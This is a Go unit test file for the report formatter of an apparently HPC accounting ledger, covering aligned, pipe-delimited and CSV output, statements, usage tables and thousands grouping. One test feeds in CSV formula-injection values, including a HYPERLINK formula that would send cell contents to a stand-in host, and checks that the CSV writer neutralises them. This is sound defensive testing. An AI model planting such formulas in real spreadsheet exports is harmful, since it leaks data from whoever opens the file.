package report_test

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"

	"github.com/ingot-hpc/ingot/internal/report"
	"github.com/ingot-hpc/ingot/ledger"
	"github.com/ingot-hpc/ingot/lien"
)

func TestWriteFormats(t *testing.T) {
	tbl := report.Table{Headers: []string{"Node", "Description"}}
	tbl.Add("chem", "a|b, \"c\"")
	tbl.Add("bio", "line\nbreak")
	tbl.Add("phys", `=HYPERLINK("http://x.example/?"&A1,"click")`)
	tbl.Add("-5.00", "+1-2")
	tbl.Add("@SUM(A1)", "\t=1")
	for _, tc := range []struct {
		name string
		f    report.Format
		want string
	}{
		{"aligned", report.Aligned, "Node      Description\nchem      a|b, \"c\"\nbio       line\\nbreak\n" +
			"phys      =HYPERLINK(\"http://x.example/?\"&A1,\"click\")\n-5.00     +1-2\n@SUM(A1)  \\t=1\n"},
		{"parsable", report.Parsable, "Node|Description\nchem|a\\x7cb, \"c\"\nbio|line\\nbreak\n" +
			"phys|=HYPERLINK(\"http://x.example/?\"&A1,\"click\")\n-5.00|+1-2\n@SUM(A1)|\\t=1\n"},
		// A cell a spreadsheet would take for a formula is quoted as text
		// (OWASP); a number stays one; a tab is already written as text.
		{"csv", report.CSV, "Node,Description\nchem,\"a|b, \"\"c\"\"\"\nbio,line\\nbreak\n" +
			"phys,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"\n-5.00,'+1-2\n'@SUM(A1),\\t=1\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			if err := report.Write(&out, tc.f, tbl); err != nil {
				t.Fatal(err)
			}
			if out.String() != tc.want {
				t.Errorf("got\n%q\nwant\n%q", out.String(), tc.want)
			}
		})
	}
}

// TestStatementCSV: the sections are a column of each detail line, as in
// -P, under one header line, and the summary comes first; an empty section
// leaves no line.
func TestStatementCSV(t *testing.T) {
	at := time.Date(2026, 11, 2, 10, 0, 0, 0, time.UTC)
	st := ledger.Statement{Account: "chem", From: at, To: at.Add(time.Hour), Beginning: decimal.Zero,
		Credits: decimal.NewFromInt(100), Debits: decimal.NewFromInt(40), Ending: decimal.NewFromInt(60),
		CreditLines: []ledger.StatementLine{{Seq: 3, Time: at, Kind: ledger.KindDeposit, Count: 1, Amount: decimal.NewFromInt(100), Allocations: []uint64{1}, Actor: "client:admin"}},
		DebitLines:  []ledger.StatementLine{{Seq: 4, Time: at, Kind: ledger.KindWithdraw, Count: 1, Amount: decimal.NewFromInt(40), Allocations: []uint64{1, 2}, Actor: "client:admin", Description: "back"}},
	}
	var out bytes.Buffer
	if err := report.WriteStatement(&out, report.CSV, st, 2, false); err != nil {
		t.Fatal(err)
	}
	local := at.Local().Format("2006-01-02 15:04:05")
	want := []string{
		"Field,Value",
		"Account,chem",
		"Period start," + local,
		"Period end," + at.Add(time.Hour).Local().Format("2006-01-02 15:04:05"),
		"Beginning balance,0.00",
		"Total credits,100.00",
		"Total debits,-40.00",
		"Ending balance,60.00",
		"Section,Entry,Time,Kind,Count,Amount,Allocations,Ref,Actor,Description",
		"credit,3," + local + ",deposit,1,100.00,1,,client:admin,",
		"debit,4," + local + ",withdraw,1,40.00,\"1,2\",,client:admin,back",
	}
	if got := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n"); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	st.CreditLines = nil
	out.Reset()
	if err := report.WriteStatement(&out, report.CSV, st, 2, false); err != nil {
		t.Fatal(err)
	}
	want = append(want[:9], want[10])
	if got := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n"); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("no credits: got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestUsageTable(t *testing.T) {
	day := time.Date(2026, 11, 2, 0, 0, 0, 0, time.Local)
	rows := []lien.UsageRow{{Period: day, User: "amy", Jobs: 2, Charges: 3, Charged: decimal.RequireFromString("10.5"), Refunded: decimal.NewFromInt(1), Net: decimal.RequireFromString("9.5")}}
	got := report.UsageTable(rows, []string{"user"}, true, 2)
	if strings.Join(got.Headers, ",") != "Period,User,Jobs,Charges,Charged,Refunded,Net" ||
		len(got.Rows) != 1 || strings.Join(got.Rows[0], ",") != "2026-11-02,amy,2,3,10.50,1.00,9.50" {
		t.Errorf("usage table %+v", got)
	}
}

func TestGrouped(t *testing.T) {
	for in, want := range map[string]string{"83547714": "83,547,714.00", "-1234.5": "-1,234.50", "999": "999.00", "0": "0.00",
		"1000": "1,000.00", "-100": "-100.00", "123456.789": "123,456.79"} {
		if got := report.Grouped(decimal.RequireFromString(in), 2); got != want {
			t.Errorf("Grouped(%s) = %s, want %s", in, got, want)
		}
	}
	if got := report.Grouped(decimal.NewFromInt(1234567), 0); got != "1,234,567" {
		t.Errorf("precision 0: %s", got)
	}
}
